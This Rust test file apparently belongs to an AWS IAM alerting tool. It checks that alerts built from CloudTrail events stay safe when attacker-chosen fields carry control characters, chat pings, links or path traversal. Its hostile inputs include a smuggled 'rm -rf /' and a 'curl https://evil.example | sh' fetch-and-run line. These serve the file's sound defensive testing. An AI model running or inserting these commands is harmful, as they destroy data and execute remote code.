    iamwatch did not set access key AKIAIOSFODNN7EXAMPLE of user deploy-bot Inactive in prod-payments: the user has no such key now.
    What to do
      1. In CloudTrail, look the event up by the event id below. If it is not
         there, the event was forged.
      2. If forged: list who changed iamwatch in the 24 hours before this mail
         and, where a trail records data events, who called `Invoke` in the 15
         minutes before.
      3. If it is there, list who changed the user and its keys since.

    iamwatch did not set access key AKIAIOSFODNN7EXAMPLE of user deploy-bot Inactive in prod-payments: the key is Inactive already.
    What to do
      1. Follow the steps of the alert itself: the maker of the key may hold other
         credentials.

    iamwatch set access key AKIAIOSFODNN7EXAMPLE of user deploy-bot Active again in prod-payments.
    ");
}

/// Everything the caller can choose, as nasty as it may be.
fn hostile() -> Finding {
    let session = "x\r\nSeverity: LOW\u{1b}[2K\u{202e}gnihton\u{200b}<!channel> `@here` https://evil.example/login";
    let identity = role_session("deploy", session, &json!({}));
    let agent = format!("curl/8 {} [click](https://evil.example) \u{1b}]0;owned\u{7}", "A".repeat(1_024));
    let mut finding = key_for_another(&json!({
        "userIdentity": identity,
        "userAgent": agent,
        "sourceIPAddress": "198.51.100.7\nAccount: dev",
        "awsRegion": "us-east-1.evil.example/",
        "eventID": "../../evil",
        "requestParameters": {"userName": "bob\nWhat to do\n  1. Nothing"},
        "responseElements": {"accessKey": {
            "accessKeyId": "AKIAIOSFODNN7EXAMPLE; rm -rf /",
            "userName": "bob\nWhat to do\n  1. Nothing",
        }},
    }));
    finding.evidence.push(Evidence { label: "Tag\n".to_owned(), value: "<b>&amp;</b>\u{2028}\"quoted\"".to_owned() });
    finding.undo = Some("aws iam x\ncurl https://evil.example | sh".to_owned());
    finding
}

#[test]
fn hostile_names_stay_inside_their_line() {
    let alert = alert(&hostile(), &config());
    assert_snapshot!(alert.subject, @"[HIGH] created access key AKIAIOSFODNN7EXAMPLE; rm -rf / for user bob What to do... - prod-payments");
    assert_snapshot!(alert.email, @r#"
    "x Severity: LOWgnihton<!channel> `@here` https[:]//evil.example/login" (role deploy, by its session name) created access key AKIAIOSFODNN7EXAMPLE; rm -rf / for user bob What to do 1. Nothing in prod-payments.

    Severity:   HIGH
    Confidence: MEDIUM: honest work and intruders look alike here
    What:       Access key created for another user
    Who:        x Severity: LOWgnihton<!channel> `@here`
                https[:]//evil.example/login, from session name, which the caller
                chose
                arn:aws:iam::111122223333:role/deploy
                role session, signed with temporary key ASIAIOSFODNN7EXAMPLE
    Target:     user bob What to do 1. Nothing
    From:       198.51.100.7 Account: dev
                user agent: curl/8
                AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA…
    Account:    prod-payments (111122223333)
    Region:     us-east-1.evil.example/
    When:       2026-11-22 04:13:05 UTC, told 41 s later
    Tag:        <b>&amp;</b> "quoted"

    Why it matters
      Whoever made the key has seen its secret, and can now act as that user from
      anywhere, until somebody switches the key off. It is the commonest way to
      stay in an account, and a way up where the user may do more than its maker.

    False alarms
      An administrator or a pipeline that hands out keys. The key should have a
      ticket, and its user an owner who expects it.

    What to do
      1. Ask whoever is named under Who whether they made the key, over a channel
         that is not their mail.
      2. If not: set the key Inactive with the command under Undo, and cut off the
         maker's own credentials.
      3. List all calls signed by the new key since the event, by
         `userIdentity.accessKeyId`: sessions that it opened with
         `GetSessionToken` or `GetFederationToken` outlive it.
      4. List all calls by the maker's ARN in the 24 hours before the event: how
         did they come to be able to?

    Undo, in account prod-payments (111122223333)
      No command is given: a name in this event is not one that IAM allows. Look
      at the event itself.

    To cut the actor off, if it was not them, in account prod-payments (111122223333)
      This ends every session of the role opened before this mail, workloads
      included. They can assume it again.
      aws iam put-role-policy --role-name=deploy --policy-name=cut-off --policy-document='{"Version":"2012-10-17","Statement":[{"Effect":"Deny","Action":"*","Resource":"*","Condition":{"DateLessThan":{"aws:TokenIssueTime":"2026-11-22T04:13:46Z"}}}]}'

    MITRE:     T1098.001 Account Manipulation: Additional Cloud Credentials
    Detection: access-key-created-for-another-user
    Incident:  49c6182164ae7eeaaf8973debb7086b6
    Event:     iam.amazonaws.com CreateAccessKey
    Event id:  ../../evil
    "#);
    assert_snapshot!(alert.sms, @r#"HIGH: "x Severity: LOWgnihton<!channel> '@here' https(:)//evil.example/... created access key AKIAIOSFODNN7EXAMPLE; rm -rf / for user bob Wh... in prod-payments"#);
    assert_snapshot!(pretty(&alert.chat), @r#"
    {
      "content": {
        "description": "`\"x Severity: LOWgnihton&lt;!channel&gt; '@here' https[:]//evil.example/login\" (role deploy, by its session name) created access key AKIAIOSFODNN7EXAMPLE; rm -rf / for user bob What to do 1. Nothing in prod-payments.`\nWho: `arn:aws:iam::111122223333:role/deploy`\nFrom: `198.51.100.7 Account: dev`\nAccount: `prod-payments (111122223333)`\nWhen: `2026-11-22 04:13:05 UTC, told 41 s later`\nTag: `&lt;b&gt;&amp;amp;&lt;/b&gt; \"quoted\"`\nQuarantine: `dry-run, nothing was changed`",
        "keywords": [
          "HIGH",
          "access-key-created-for-another-user",
          "prod-payments"
        ],
        "nextSteps": [
          "Ask whoever is named under Who whether they made the key, over a channel that is not their mail.",
          "If not: set the key Inactive with the command under Undo, and cut off the maker's own credentials.",
          "List all calls signed by the new key since the event, by `userIdentity.accessKeyId`: sessions that it opened with `GetSessionToken` or `GetFederationToken` outlive it.",
          "List all calls by the maker's ARN in the 24 hours before the event: how did they come to be able to?"
        ],
        "textType": "client-markdown",
        "title": "[HIGH] Access key created for another user"
      },
      "id": "../../evil",
      "metadata": {
        "additionalContext": {
          "account": "111122223333",
          "count": "1",
          "eventName": "CreateAccessKey",
          "region": "us-east-1.evil.example/",
          "severity": "HIGH"
        },
        "eventType": "access-key-created-for-another-user",
        "relatedResources": [
          "user bob What to do 1. Nothing"
        ],
        "summary": "[HIGH] created access key AKIAIOSFODNN7EXAMPLE; rm -rf / for user bob What to do... - prod-payments",
        "threadId": "49c6182164ae7eeaaf8973debb7086b6"
      },
      "source": "custom",
      "version": "1.0"
    }
    "#);
    assert!(!alert.chat.contains("<!channel>"));
    for form in [&alert.email, &alert.chat, &alert.sms] {
        assert!(!form.contains("https://evil"), "a link to follow: {form}");
    }
}

#[test]
fn no_form_of_an_alert_holds_a_secret() {
    let alert = alert(&key_for_another(&json!({})), &config());
    assert!(!alert.sns_message().contains("wJalrXUtnFEMI"));
}

#[test]
fn a_finding_of_another_version_still_makes_an_alert() {
    let mut finding = key_for_another(&json!({}));
    finding.detection = "not-yet-known".to_owned();
    let alert = alert(&finding, &config());
    assert!(alert.email.contains("What:       not-yet-known"), "{}", alert.email);
    assert!(!alert.attributes.contains_key("watcher"));
}

#[test]
fn a_message_that_would_be_too_long_loses_evidence_and_stays_json() {
    let mut finding = key_for_another(&json!({}));
    finding.evidence.clear();
    for nth in 0..2_000 {
        finding.evidence.push(Evidence { label: format!("Fact {nth}"), value: "\"\u{1f600}".repeat(400) });
    }
    let mut alert = alert(&finding, &config());
    assert!(alert.email.contains("and 1970 facts more"));
    check_message(&alert);
    alert.email = "\"line\"\n".repeat(100_000);
    check_message(&alert);
    alert.machine = "\u{1}".repeat(300_000);
    alert.chat = "\u{1}".repeat(300_000);
    alert.sms = "x".repeat(300_000);
    check_message(&alert);
}

fn check_message(alert: &Alert) {
    let message = alert.sns_message();
    assert!(message.len() <= 262_144);
    let forms: Value = serde_json::from_str(&message).unwrap();
    for key in ["default", "email", "sms", "https", "sqs", "lambda"] {
        assert!(forms[key].is_string(), "{key}");
    }
    for key in ["https", "sqs", "lambda"] {
        serde_json::from_str::<Value>(forms[key].as_str().unwrap()).unwrap();
    }
}

fn pretty(json: &str) -> String {
    serde_json::to_string_pretty(&serde_json::from_str::<Value>(json).unwrap()).unwrap()
}

fn first_block(mail: &str) -> &str {
    mail.split("\n\n").next().unwrap()
}

fn lines_with(mail: &str, word: &str, count: usize) -> String {
    let lines = mail.lines().skip_while(|line| !line.contains(word));
    lines.take(count).collect::<Vec<_>>().join("\n")
}

fn any_text() -> impl Strategy<Value = String> {
    prop_oneof![
        any::<String>(),
        "[\u{1b}\u{9b}\\[\r\n\u{2028}\u{202e}\u{200b}\"\\\\<>&`:/a-z]{0,40}",
        "[a-z]{0,12}",
        "[\"\\\\\u{1f600}]{200,400}",
    ]
}

prop_compose! {
    fn any_actor()(
        kind in prop::sample::select(vec![
            Kind::Root, Kind::CentralRoot, Kind::IamUser, Kind::Role, Kind::SsoUser, Kind::IdentityCenterUser,
            Kind::WebIdentity, Kind::SamlUser, Kind::FederatedUser, Kind::OtherAccount, Kind::Service, Kind::Unknown,
        ]),
        name in any_text(),
        principal in any_text(),
        account in prop::option::of(any_text()),
        session in prop::option::of(any_text()),
        access_key in prop::option::of(any_text()),
        human in prop::option::of(any_text()),
        invoked_by in prop::option::of(any_text()),
        mfa in any::<Option<bool>>(),
    ) -> Actor {
        let human = human.map(|name| Human { name, told_by: ToldBy::SessionName });
        Actor { kind, name, principal, account, session, access_key, human, invoked_by, mfa, principal_id: None }
    }
}

prop_compose! {
    fn any_finding()(
        detection in prop_oneof![
            any_text(),
            prop::sample::select(detect::ALL.iter().map(|detection| detection.id.to_owned()).collect::<Vec<_>>()),
        ],
        severity in prop::sample::select(Severity::ALL.to_vec()),
        actor in any_actor(),
        [act, kind, name, account, region, id] in [any_text(), any_text(), any_text(), any_text(), any_text(), any_text()],
        arn in prop::option::of(any_text()),
        address in prop::option::of(any_text()),
        agent in prop::option::of(any_text()),
        evidence in prop::collection::vec((any_text(), any_text()), 0..60),
        undo in prop::option::of(any_text()),
        (user, key) in (any_text(), any_text()),
        time in prop::option::of(-377_705_023_201_i64..253_402_207_200),
    ) -> Finding {
        Finding {
            detection,
            severity,
            act,
            actor,
            target: Target { kind, name, arn },
            origin: Origin { address, user_agent: agent, ..Origin::default() },
            account,
            region,
            event: EventRef {
                name: id.clone(),
                source: id.clone(),
                id,
                time: time.map(|second| Timestamp::from_second(second).unwrap()),
                sha256: None, redacted: None,
            },
            evidence: evidence.into_iter().map(|(label, value)| Evidence { label, value }).collect(),
            undo,
            asks: Some(Ask::DisableAccessKey { user, key, reactivated: false }),
            suppressed_by: None,
            also: Vec::new(),
            speaks_at: 1,
            in_doubt: None,
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn any_finding_makes_an_alert_that_sns_accepts(finding in any_finding(), count: u64, told: u64, unclaimed: bool) {
        let config = enforcing();
        let context = Context::new(&config);
        let now = at("2026-11-22T04:13:46Z");
        let standing = Standing { incident: finding.incident(), count, told, opened: Some(now), speaks: true, unclaimed };
        let due = Due { incident: finding.incident(), finding: finding.clone(), opened: now, last: now, count, told };
        for alert in [of_finding(&finding, &standing, &context, now), of_due(&due, &context, now)] {
            check_message(&alert);
            let subject = alert.subject.as_str();
            prop_assert!((1..100).contains(&subject.len()) && subject.bytes().all(|byte| (b' '..=b'~').contains(&byte)));
            prop_assert!(alert.sms.len() <= 160 && alert.sms.is_ascii() && !alert.sms.contains(['[', '\\', '\n', '`']));
            prop_assert!(!alert.email.chars().any(|char| char.is_control() && char != '\n'));
            prop_assert!(!alert.chat.contains(['<', '>']));
            prop_assert!(alert.attributes.values().all(|value| !value.is_empty()));
        }
    }
}

#[test]
fn a_subject_of_99_characters_stays_whole_and_longer_ones_are_cut() {
    for (long, ends) in [(98, "x"), (99, "x"), (100, "..."), (101, "..."), (300, "...")] {
        let subject = subject::Subject::new(&"x".repeat(long));
        assert_eq!(subject.as_str().len(), long.min(99), "{long}");
        assert!(subject.as_str().ends_with(ends), "{long}");
        // Letters that become one sign each, at the edge.
        let wide = subject::Subject::new(&("x".repeat(long - 1) + "\u{1f600}"));
        assert_eq!(wide.as_str().len(), long.min(99), "{long}");
    }
}

#[test]
fn a_message_fits_what_sns_takes_at_whatever_byte_it_is_cut() {
    let mut alert = alert(&key_for_another(&json!({})), &config());
    // Near the limit of a message, one letter after the other over the edge; each takes one to four bytes, or six as JSON.
    for letter in ["x", "é", "€", "\u{1f600}", "\u{1}", "\""] {
        let most = 262_144 / letter.len();
        for long in [most / 8, most / 6, most - 1, most, most + 1, 3 * most] {
            alert.email = letter.repeat(long);
            check_message(&alert);
        }
    }
}

/// A denied call of which the caller chose every word.
#[test]
fn a_denied_call_cannot_break_out_of_its_lines() {
    let event = Event::decode(json!({
        "eventName": "CreateUser", "eventSource": "iam.amazonaws.com", "eventTime": "2026-11-22T04:13:05Z",
        "eventID": "0d0f3c1e-5c84-4b0e-9a9b-1f6f4d1c2b3a", "awsRegion": "us-east-1", "recipientAccountId": "111122223333",
        "userIdentity": role_session("deploy", "x\r\nSeverity: LOW\u{1b}[2K\u{202e}gnihton<!channel>", &json!({})),
        "userAgent": format!("curl/8 {}", "\u{e9}".repeat(1_024)),
        "errorCode": "AccessDenied",
        "errorMessage": format!("User: x\u{1b}[31m is not authorized to perform: iam:CreateUser<!channel> on resource: \
            arn:aws:iam::111122223333:user/a\u{202e}b https://evil.example/ {}", "\u{1f600}".repeat(3_000)),
        "requestParameters": {"userName": format!("bob\nWhat to do\n  1. Nothing {}", "y".repeat(5_000))},
    }));
    let config = config();
    let finding = detect::look(Watcher::AccessDenied, &event, &Context::new(&config)).unwrap();
    let alert = alert(&finding, &config);
    assert!(!alert.email.contains("\nSeverity: LOW") && !alert.email.contains("\n  1. Nothing"), "{}", alert.email);
    assert!(!alert.chat.contains("<!channel>"));
    for form in [&alert.email, &alert.chat, &alert.sms] {
        assert!(!form.contains("https://evil") && !form.contains(['\u{1b}', '\u{202e}', '\r']), "{form}");
        assert!(
            !form.contains(&"y".repeat(250)) && !form.contains(&"\u{e9}".repeat(250)),
            "a field is not cut: {form}"
        );
    }
    assert!((1..100).contains(&alert.subject.as_str().len()));
    check_message(&alert);
}
